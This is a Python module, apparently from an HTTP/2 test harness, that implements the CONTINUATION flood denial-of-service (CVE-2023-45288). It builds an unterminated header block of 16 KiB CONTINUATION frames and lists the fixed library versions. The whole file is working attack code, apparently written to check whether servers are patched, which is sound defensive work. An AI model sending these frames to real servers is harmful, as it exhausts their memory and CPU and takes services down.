"""CONTINUATION flood (2024; CERT VU#421644, Go's CVE-2023-45288): a HEADERS frame without END_HEADERS,
then CONTINUATION frames of literal fields without end, so a server that buffers or decodes the block
before it is complete spends memory and CPU with no request ever made (RFC 9113 section 6.10)."""
from hyperframe.frame import ContinuationFrame

from h2grid.attacks.base import Attack, Fix
from h2grid.attacks.hpackraw import literal, request

FRAME_PAYLOAD = 16_384  # the default SETTINGS_MAX_FRAME_SIZE
FRAMES = 4  # per batch


def _fragment() -> bytes:
    field = literal(b"x-continuation", b"c" * 100)
    return field * (FRAME_PAYLOAD // len(field))


FRAGMENT = _fragment()


def opening(conn) -> bytes:
    conn.state = {"sid": conn.stream_id()}
    return conn.headers(conn.state["sid"], request(conn), end_stream=True, end_headers=False)


def batch(conn) -> bytes:
    return ContinuationFrame(conn.state["sid"], FRAGMENT).serialize() * FRAMES


REACHED = 256 * 1024  # 16 frames of one header block: past HEADERS alone, into the CONTINUATION path


def exercised(sent: dict) -> str:
    return "" if sent["most_on_one"] >= REACHED else (
        f"no connection took {REACHED >> 10} KiB of one header block (at most {sent['most_on_one']:,} bytes)")


ATTACK = Attack(
    key="continuation-flood", title="CONTINUATION flood", cve="CVE-2023-45288 (Go), CERT VU#421644 (2024)",
    rfc="RFC 9113 section 6.10 (CONTINUATION), section 10.5.1 (header block size)",
    sends="one HEADERS frame without END_HEADERS, then 16 KiB CONTINUATION frames of literal fields, never ending",
    opening=opening, batch=batch, exercised=exercised, bound_mib=64,
    fixes=(Fix("h2", "2.0.0", "at most 64 CONTINUATION frames per header block, then a connection error "
                              "(h2/frame_buffer.py CONTINUATION_BACKLOG, since 2016)"),
           Fix("go", "go1.22.2", "the header block's size is checked as CONTINUATION frames arrive "
                                 "(CVE-2023-45288; go1.21.9, x/net v0.23.0)"),
           Fix("h2-rust", "0.4.4", "limit on CONTINUATION frames per header block (0.3.26 on the 0.3 line)")),
)
